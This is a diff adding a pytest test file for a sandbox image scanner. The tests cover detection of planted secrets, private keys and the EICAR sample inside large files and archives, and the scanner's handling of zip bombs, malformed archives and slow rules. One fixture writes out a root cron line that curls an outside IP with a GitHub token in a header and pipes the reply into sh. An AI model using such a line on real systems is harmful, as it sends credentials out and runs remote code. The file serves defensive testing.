@@ -1,0 +1,294 @@
+"""The module for content: windows, archives, budgets, redaction, slow rules."""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import io
+import json
+import os
+import subprocess
+import sys
+import tarfile
+import zipfile
+from collections.abc import Callable
+from dataclasses import asdict
+from pathlib import Path
+
+import pytest
+
+from sandbox.scanners.content import search as searching
+from sandbox.scanners.content.archives import MAX_MEMBERS
+from sandbox.scanners.content.engine import Engine, Rules, compile_rules
+from sandbox.scanners.content.search import ContentSearch
+from sandbox.scanners.facts import Entry, Facts
+from tests.kit import planted
+from tests.kit.sources import ROOT
+
+
+@pytest.fixture(scope="module")
+def rules() -> Rules:
+    return compile_rules()
+
+
+@pytest.fixture
+def search(rules: Rules) -> ContentSearch:
+    return ContentSearch(Engine(rules))
+
+
+def entry(path: str, size: int) -> Entry:
+    return Entry(path=path, kind="file", size_bytes=size, mode=0o100644, uid=0, gid=0)
+
+
+def looked_at(search: ContentSearch, path: str, content: bytes) -> Facts:
+    assert search.wants(entry(path, len(content)))
+    return search.look(entry(path, len(content)), io.BytesIO(content))
+
+
+def packed(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", method) as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return made.getvalue()
+
+
+@pytest.mark.parametrize(
+    "at",
+    [
+        0,
+        100,
+        searching.WINDOW_BYTES - 20,
+        searching.WINDOW_BYTES - searching.OVERLAP_BYTES - 3,
+        searching.WINDOW_BYTES - searching.OVERLAP_BYTES,
+        searching.WINDOW_BYTES,
+        2 * searching.WINDOW_BYTES - 7,
+    ],
+)
+def test_a_secret_is_told_once_wherever_it_lies_in_a_large_file(search: ContentSearch, at: int) -> None:
+    token = planted.token("ghp_").encode()
+    content = bytearray(b"." * (2 * searching.WINDOW_BYTES + 1000))
+    content[at : at + len(token)] = token
+    facts = looked_at(search, "opt/data", bytes(content))
+    assert [thing.rule for thing in facts.things] == ["ST-SECRET-GITHUB-TOKEN"]
+    assert facts.incomplete == ()
+    assert facts.things[0].md5 == hashlib.md5(content).hexdigest()
+
+
+def test_a_sparse_file_is_searched_to_its_limit_in_bounded_memory(
+    search: ContentSearch, tmp_path: Path
+) -> None:
+    token = planted.token("ghp_").encode()
+    with open(tmp_path / "sparse", "w+b") as file:
+        file.truncate(searching.MAX_FILE_BYTES + 10)
+        file.seek(100_000_000)
+        file.write(token)
+        file.seek(0)
+        size = os.fstat(file.fileno()).st_size
+        found: list[str] = []
+        reasons: list[str] = []
+        small = ContentSearch(search._engine)
+        found = [thing.rule for thing in small._things(_Cut(file, 200_000_000), "sparse", "", reasons)]
+    assert found == ["ST-SECRET-GITHUB-TOKEN"]
+    assert reasons == []
+    assert size > searching.MAX_FILE_BYTES
+
+
+class _Cut:
+    """The beginning of a file."""
+
+    def __init__(self, file: io.BufferedRandom, length: int) -> None:
+        self._file, self._left = file, length
+
+    def read(self, size: int, /) -> bytes:
+        piece = self._file.read(min(size, self._left))
+        self._left -= len(piece)
+        return piece
+
+
+def test_a_file_beyond_the_limit_is_said_to_be_searched_in_part(
+    search: ContentSearch, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(searching, "MAX_FILE_BYTES", searching.WINDOW_BYTES)
+    content = b"." * (searching.WINDOW_BYTES + 10)
+    assert "only its first" in looked_at(search, "opt/data", content).incomplete[0]
+    assert looked_at(search, "opt/data", content[:-10]).incomplete == ()
+
+
+@pytest.mark.parametrize(
+    ("name", "pack", "inside"),
+    [
+        ("eicar.com.gz", gzip.compress, "eicar.com"),
+        ("a.zip", lambda raw: packed({"sub/eicar.com": raw}), "sub/eicar.com"),
+        ("a.jar", lambda raw: packed({"x": raw}, zipfile.ZIP_STORED), "x"),
+        ("two.gz", lambda raw: gzip.compress(b"first") + gzip.compress(raw) + b"\0\0", "two"),
+    ],
+)
+def test_archives_are_opened_one_level_deep(
+    search: ContentSearch, name: str, pack: Callable[[bytes], bytes], inside: str
+) -> None:
+    raw = planted.eicar().encode()
+    facts = looked_at(search, f"srv/{name}", pack(raw))
+    told = {(thing.rule, thing.path) for thing in facts.things}
+    # What is only stored is seen from outside as well.
+    assert told - {("ST-MALWARE-EICAR", "")} == {("ST-MALWARE-EICAR", inside)}
+    assert facts.incomplete == ()
+    twice = looked_at(search, f"srv/{name}", pack(pack(raw)))
+    assert all(thing.rule == "ST-MALWARE-EICAR" for thing in twice.things)
+
+
+def test_a_tar_is_searched_as_it_is(search: ContentSearch) -> None:
+    made = io.BytesIO()
+    with tarfile.open(fileobj=made, mode="w:gz") as archive:
+        info = tarfile.TarInfo("root/.ssh/id_rsa")
+        key = planted.private_key().encode()
+        info.size = len(key)
+        archive.addfile(info, io.BytesIO(key))
+    facts = looked_at(search, "srv/backup.tar.gz", made.getvalue())
+    assert [(thing.rule, thing.path) for thing in facts.things] == [("ST-SECRET-PRIVATE-KEY", "backup.tar")]
+
+
+def _bomb() -> bytes:
+    return gzip.compress(b"." * 3_000_000)
+
+
+def _lzma() -> bytes:
+    return packed({"a": b"content"}, zipfile.ZIP_LZMA)
+
+
+def _lying() -> bytes:
+    raw = bytearray(packed({"a": b"content" * 100}))
+    raw[-12:-10] = (MAX_MEMBERS + 1).to_bytes(2, "little")
+    return bytes(raw)
+
+
+def _wrong_sum() -> bytes:
+    raw = bytearray(packed({"a": b"content" * 100}, zipfile.ZIP_STORED))
+    raw[40] ^= 1
+    return bytes(raw)
+
+
+@pytest.mark.parametrize(
+    ("make", "reason"),
+    [
+        (_bomb, "holds more than the 1000000 bytes"),
+        (lambda: packed({"bomb": b"." * 3_000_000}), "holds more than the 1000000 bytes"),
+        (lambda: gzip.compress(b"content" * 1000)[:-20], "ends before its end"),
+        (lambda: b"\x1f\x8b\x08\0garbage-garbage", "no good gzip"),
+        (lambda: packed({"a": b"b" * 100})[:-30], "ends before its end"),
+        (lambda: b"PK\x03\x04" + b"." * 60, "ends before its end"),
+        (_lzma, "in a way that is not opened"),
+        (_lying, "more than 50000 members"),
+        (_wrong_sum, "no good zip"),
+    ],
+)  # fmt: skip
+def test_a_hostile_archive_is_incomplete(
+    rules: Rules, monkeypatch: pytest.MonkeyPatch, make: Callable[[], bytes], reason: str
+) -> None:
+    monkeypatch.setattr(searching, "MAX_ARCHIVE_BYTES", 1_000_000)
+    search = ContentSearch(Engine(rules))
+    (said,) = looked_at(search, "srv/archive", make()).incomplete
+    assert reason in said
+
+
+def test_archives_of_one_layer_have_one_budget(rules: Rules, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(searching, "MAX_ARCHIVES_BYTES", 5_000_000)
+    search = ContentSearch(Engine(rules))
+    said = [looked_at(search, "srv/a.gz", _bomb()).incomplete for _ in range(2)]
+    assert said[0] == ()
+    assert "the archives of this layer" in said[1][0]
+
+
+def test_no_more_is_told_than_may_be(rules: Rules, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(searching, "MAX_PER_LAYER", 60)
+    search = ContentSearch(Engine(rules))
+    many = "\n".join(planted.token("ghp_", seed=seed) for seed in range(80)).encode()
+    first = looked_at(search, "srv/many", many)
+    assert len(first.things) == searching.MAX_PER_FILE
+    assert "more in it than the 50" in first.incomplete[0]
+    second = looked_at(search, "srv/more", many)
+    assert len(second.things) == 10
+    assert any("in one layer" in reason for reason in second.incomplete)
+    assert not search.wants(entry("srv/next", 10))
+
+
+def test_decoys_do_not_hide_what_comes_after_them(search: ContentSearch) -> None:
+    decoys = b"AKIAIOSFODNN7" + b"EXAMPLE\n"
+    facts = looked_at(search, "srv/x", decoys * 500 + planted.token("ghp_").encode())
+    assert [(thing.rule, thing.line) for thing in facts.things] == [("ST-SECRET-GITHUB-TOKEN", 501)]
+    assert facts.incomplete == ()
+    flooded = looked_at(search, "srv/x", decoys * 1500)
+    assert "matches 1000 times and more" in flooded.incomplete[0]
+
+
+def test_a_rule_that_is_slow_on_a_file_ends_by_its_timeout(tmp_path: Path) -> None:
+    (tmp_path / "slow.yar").write_text(
+        "rule Slow { condition: filesize == 7777"
+        " and for all i in (0..1000000000) : (uint8(i % filesize) == 46) }"
+    )
+    engine = Engine(compile_rules(tmp_path))
+    engine._scanner.set_timeout(1)
+    search = ContentSearch(engine)
+    slow = b"." * 7777
+    for _ in range(searching.MAX_UNFINISHED):
+        assert search.wants(entry("srv/x", 7777))
+        facts = looked_at(search, "srv/x", slow)
+        assert "a rule took longer than" in facts.incomplete[0]
+        # Others are searched as before.
+    assert "too slow for this layer" in facts.incomplete[1]
+    assert not search.wants(entry("srv/x", 7777))
+
+
+def test_no_output_has_a_secret(search: ContentSearch) -> None:
+    text = [(examples.path, text) for examples in planted.secrets().values() for text in examples.true]
+    text.append(
+        (
+            "srv/cron",
+            f"*/5 * * * * root curl -H 'x: {planted.token('ghp_')}' http://198.51.100.7/x | " + "sh\n",
+        )
+    )
+    told = ""
+    for path, one in text:
+        facts = looked_at(search, path, one.encode("latin-1"))
+        assert facts.things
+        told += json.dumps([asdict(thing) for thing in facts.things], ensure_ascii=False)
+    for _, one in text:
+        pieces = {one[at : at + 7] for at in range(len(one) - 6)}
+        words = {piece for piece in pieces if any(each.isdigit() for each in piece) and piece.isalnum()}
+        assert [piece for piece in words if piece in told] == []
+
+
+def test_a_worker_without_the_engine_says_so() -> None:
+    engine = Engine(Rules(b"", "none", "no engine"))
+    assert not engine.is_there
+    assert "there is no yara-x" in engine.search(b"text").unfinished
+
+
+CONFINED = """
+import io, sys, os
+from sandbox import bpf, syscalls as kernel
+from sandbox.images import confine
+from sandbox.scanners.content.engine import Engine, compile_rules
+from sandbox.scanners.content.search import ContentSearch
+from sandbox.scanners.facts import Entry
+search = ContentSearch(Engine(compile_rules()))
+if child := os.fork():
+    sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
+import resource
+resource.setrlimit(resource.RLIMIT_AS, (confine._ADDRESS_SPACE_BYTES,) * 2)
+kernel.prctl(kernel.PR_SET_NO_NEW_PRIVS, 1)
+bpf.install(bpf.pack(confine.filter_program(bpf.this_machine())))
+content = sys.argv[1].encode()
+things = search.look(Entry("x", "file", len(content), 0o100644, 0, 0), io.BytesIO(content)).things
+os.write(1, things[0].rule.encode())
+os._exit(0)
+"""
+
+
+def test_it_searches_in_the_confined_child() -> None:
+    # The engine starts a thread with its first search, within the limits of the child that unpacks layers.
+    ended = subprocess.run(
+        [sys.executable, "-c", CONFINED, planted.token("ghp_")],
+        cwd=ROOT, capture_output=True, text=True, check=False, timeout=120,
+    )  # fmt: skip
+    assert (ended.returncode, ended.stdout) == (0, "ST-SECRET-GITHUB-TOKEN"), ended.stderr
